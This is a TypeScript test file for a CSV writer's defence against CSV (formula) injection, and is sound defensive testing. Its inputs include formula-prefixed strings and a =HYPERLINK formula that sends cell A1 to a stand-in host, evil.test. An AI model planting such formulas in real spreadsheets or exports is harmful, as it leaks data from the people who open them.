import { parse } from 'csv-parse/sync';
import { formulaSafe } from '@timekeep/contracts';
import { csvWriter } from './csv-writer';

const write = async (rows: Array<Record<'Name' | 'Hours', string>>): Promise<string> => {
  const csv = csvWriter({ columns: ['Name', 'Hours'] as const, numbers: ['Hours'] });
  let text = '';
  csv.on('data', (chunk: Buffer | string) => (text += chunk.toString()));
  const ended = new Promise((resolve) => csv.on('end', resolve));
  rows.forEach((row) => csv.write(row));
  csv.end();
  await ended;
  return text;
};

describe('the CSV writer (ADR 0048: OWASP CSV injection)', () => {
  it.each(['=1+1', '+1', '-1+2', '@SUM(1)', '\tx', '\rx', '\uFF1D1+1', '\uFF20SUM(1)'])('puts a quote before %j, keeping the whole text', (text) => {
    expect(formulaSafe(text)).toBe(`'${text}`);
  });

  it.each(['Mere Walker', "'=already text", '', '1.50', 'P-1'])('leaves %j as it is', (text) => {
    expect(formulaSafe(text)).toBe(text);
  });

  it('quotes a neutralised cell, leaves a negative number in a number column a number, and neutralises text there', async () => {
    const text = await write([
      { Name: '=HYPERLINK("http://evil.test/?leak="&A1,"Click")', Hours: '-1.50' },
      { Name: 'Tai', Hours: '-1+2' },
      { Name: '-5', Hours: '8.00' },
    ]);
    expect(text.split('\r\n')).toEqual(['Name,Hours', `"'=HYPERLINK(""http://evil.test/?leak=""&A1,""Click"")",-1.50`, `Tai,"'-1+2"`, `"'-5",8.00`]);
    expect(parse(text, { columns: true })).toEqual([
      { Name: `'=HYPERLINK("http://evil.test/?leak="&A1,"Click")`, Hours: '-1.50' },
      { Name: 'Tai', Hours: "'-1+2" },
      { Name: "'-5", Hours: '8.00' },
    ]);
  });

  it('writes the header row when there are no rows', async () => {
    expect(await write([])).toBe('Name,Hours');
  });
});
